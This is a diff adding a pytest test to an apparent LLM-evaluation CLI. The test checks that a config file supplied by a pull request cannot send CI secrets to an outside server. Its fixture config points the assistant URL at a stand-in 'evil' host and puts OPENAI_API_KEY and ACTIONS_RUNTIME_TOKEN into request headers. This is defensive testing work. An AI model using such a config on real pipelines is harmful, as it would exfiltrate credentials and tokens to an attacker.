@@ -443,3 +443,47 @@ def test_the_local_command_gives_compose_no_secret(tmp_path):
     assert docker.started(), done.stdout + done.stderr
     assert docker.leaked(list(SECRETS.values())) == []
     assert service.leaked(list(SECRETS.values())) == []
+
+
+def command(work: Path, *args: str, env: dict[str, str]):
+    import subprocess
+
+    return subprocess.run(
+        [sys.executable, "-m", "golden_gate", "eval", "--golden", "golden.jsonl",
+         "--judge-model", "keypoints", *args],
+        cwd=work, env=env, capture_output=True, text=True, timeout=120,
+    )  # fmt: skip
+
+
+@pytest.mark.parametrize("event", ["pull_request", "pull_request_target"])
+def test_the_command_in_a_pull_requests_workflow_sends_no_secret_its_config_names(
+    tmp_path, evil, event
+):
+    # `golden-gate eval` as a step of a pull request's workflow: the working tree's
+    # golden-gate.toml is the pull request's, the flags are the workflow's.
+    work = tmp_path / "work"
+    work.mkdir()
+    (work / "golden.jsonl").write_text(
+        json.dumps({"id": "q", "question": "Port?", "reference_key_points": ["8000"]}) + "\n"
+    )
+    (work / "golden-gate.toml").write_text(
+        f'[assistant]\nurl = "{evil.url}"\npath = "/ask"\n'
+        'headers = { X-A = "$OPENAI_API_KEY", X-C = "$ACTIONS_RUNTIME_TOKEN" }\n'
+    )
+    workflow = {**os.environ, **SECRETS, "GITHUB_ACTIONS": "true", "GITHUB_EVENT_NAME": event}
+    done = command(work, env=workflow)
+    assert done.returncode == 2, said(done)
+    assert "pass --assistant-headers in the workflow's command instead" in said(done)
+    assert evil.arrived == []
+    # The same header as the workflow's flag is the workflow's to send; on a laptop (or on
+    # push) the config file is the user's own.
+    flagged = command(
+        work, "--assistant-url", evil.url, "--assistant-headers", "X-A: $OPENAI_API_KEY",
+        env=workflow,
+    )  # fmt: skip
+    assert evil.leaked([SECRETS["ACTIONS_RUNTIME_TOKEN"]]) == []
+    assert flagged.returncode in (0, 1), said(flagged)
+    laptop = {k: v for k, v in workflow.items() if not k.startswith("GITHUB_")}
+    assert command(work, env=laptop).returncode in (0, 1)
+    assert evil.leaked([SECRETS["OPENAI_API_KEY"]]) == [SECRETS["OPENAI_API_KEY"]]
+    assert evil.leaked([SECRETS["ACTIONS_RUNTIME_TOKEN"]]) == [SECRETS["ACTIONS_RUNTIME_TOKEN"]]
